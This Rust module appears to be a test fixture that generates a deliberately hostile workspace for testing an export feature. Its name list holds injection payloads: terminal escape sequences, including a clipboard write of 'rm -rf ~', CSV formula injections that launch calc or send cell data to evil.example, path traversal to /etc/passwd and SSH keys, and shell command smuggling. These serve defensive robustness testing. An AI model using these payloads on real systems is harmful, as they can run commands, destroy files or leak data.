//! A workspace in which somebody means harm: names and texts that attack terminals, spreadsheets, paths and parsers, and
//! objects of sizes that nobody expects.
//!
//! Text that no Rust string can hold is written by stand-ins: see [`LONE_HIGH`] and [`LONE_LOW`].

use std::sync::LazyLock;

use super::{Dice, World};

/// Stands for the first half of a surrogate pair, alone: `\ud83d` when it is sent, U+FFFD in the ground truth.
pub(crate) const LONE_HIGH: char = '\u{f8fe}';
/// Stands for the second half, alone: `\udc00`.
pub(crate) const LONE_LOW: char = '\u{f8fd}';

/// The name of the workspace, which is shown while it is exported.
pub(super) const WORKSPACE: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31mExample\r\u{202e}\n=1+1\u{8} \u{f8fe}";

/// The task with notes of a megabyte.
const LONG_NOTES: u32 = 2;
/// The task that a crowd follows.
const FOLLOWED: u32 = 1;
/// How many they are.
const FOLLOWERS: u32 = 10_000;
/// Of a hundred names and texts, those that mean harm.
const SHARE: u32 = 60;

const NAMES: &[&str] = &[
    // Terminals: clear the screen, set the title, write to the clipboard, make a link, ask for an answer.
    "\u{1b}[2J\u{1b}[1;1Hgone",
    "\u{1b}]0;owned\u{7}title",
    "\u{1b}]52;c;cm0gLXJmIH4=\u{7}clipboard",
    "\u{1b}]8;;https://evil.example/\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{1b}[6n\u{1b}[c\u{5}",
    "\u{9b}31mC1 red\u{9c}\u{90}q\u{9d}0;t\u{9c}\u{85}\u{80}",
    "bell\u{7} back\u{8}\u{8}\u{8}\u{8} delete\u{7f} form\u{c} vertical\u{b}",
    "overwritten\rsafe",
    "progress 100%\u{1b}[1A\u{1b}[K",
    // Order of writing, and what is not seen.
    "invoice\u{202e}fdp.exe",
    "\u{2066}isolate\u{2069}\u{200f}\u{61c}\u{200e}",
    "zero\u{200b}width\u{200d}\u{2060}\u{feff}joined",
    "\u{feff}begins with a mark",
    "line\u{2028}para\u{2029}graph",
    "\u{fff9}annotated\u{fffa}by\u{fffb} \u{e0041}\u{e007f}",
    // Formulas.
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1)",
    "\u{0}=1+1",
    "\u{200b}=1+1",
    "'=1+1",
    "\"=1+1\"",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    // CSV and JSON.
    "a,b\",\"c\"\r\n\"d",
    "\"",
    "\"\"",
    "\"\"\"\n\"\"\"",
    ",",
    "\n",
    "\r\n",
    "\\",
    "\\\",\"gid\":\"1\"",
    "{\"gid\":\"1\"}",
    "nul\u{0}byte",
    "\u{0}",
    "null",
    "\\N",
    // Halves of surrogate pairs.
    "half \u{f8fe} of a pair",
    "\u{f8fd}\u{f8fe}",
    // Paths.
    "../../../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\System32\\..\\..\\x",
    "..",
    ".",
    "CON",
    "a/b\u{0}.csv",
    "~/.ssh/authorized_keys",
    "$(touch owned) `touch owned` ; touch owned | touch owned",
    "%s%n%x {} {0} ${x}",
    // Characters: combining, outside the first plane, no characters.
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}a\u{34c}\u{30f}\u{301}l\u{34e}\u{326}go",
    "\u{10ffff}\u{ffff}\u{fdd0}",
    "e\u{301} and \u{e9}",
    " ",
    "",
];

/// Numbers that floating point cannot hold, and other ways to write them.
const NUMBERS: &[&str] = &[
    "9007199254740993",
    "-9007199254740993",
    "123456789012345678901234567890",
    "-123456789012345678901234567890.123456789012345678901234567890",
    "0.000000000000000000000000000001",
    "1e30",
    "1.50E+2",
    "-0",
    "-0.0",
    "10000000000000000000000.50",
];

static LONG_NAME: LazyLock<String> = LazyLock::new(|| "A very long name. ".repeat(600));

/// A name that means harm; `None` for the names that are like others.
pub(super) fn name(dice: Dice, salt: &str) -> Option<&'static str> {
    if !dice.is_hostile() || !dice.part(9).chance(salt, SHARE) {
        return None;
    }
    if dice.part(8).chance(salt, 2) {
        return Some(&LONG_NAME);
    }
    Some(dice.part(7).pick(salt, NAMES))
}

/// Digits that mean harm.
pub(super) fn number(dice: Dice) -> Option<String> {
    (dice.is_hostile() && dice.chance("hostile number", SHARE)).then(|| dice.pick("which number", NUMBERS).to_owned())
}

impl World {
    /// Notes of a megabyte.
    pub(super) fn long_notes(&self, task: u32) -> Option<String> {
        (self.hostile && task == LONG_NOTES).then(|| "A sentence, \"quoted\",\nof the longest notes. ".repeat(26_000))
    }

    /// People who follow a task and are known by nothing else: their places are behind those of everyone.
    pub(super) fn crowd(&self, task: u32) -> Option<Vec<u32>> {
        (self.hostile && task == FOLLOWED).then(|| (0..FOLLOWERS).map(|at| self.people.len() + at).collect())
    }

    /// The name of somebody of a crowd.
    pub(crate) fn stranger(&self, person: u32) -> Option<String> {
        let at = person.checked_sub(self.people.len()).filter(|at| self.hostile && *at < FOLLOWERS)?;
        Some(format!("Follower {at}\u{1b}[31m"))
    }
}
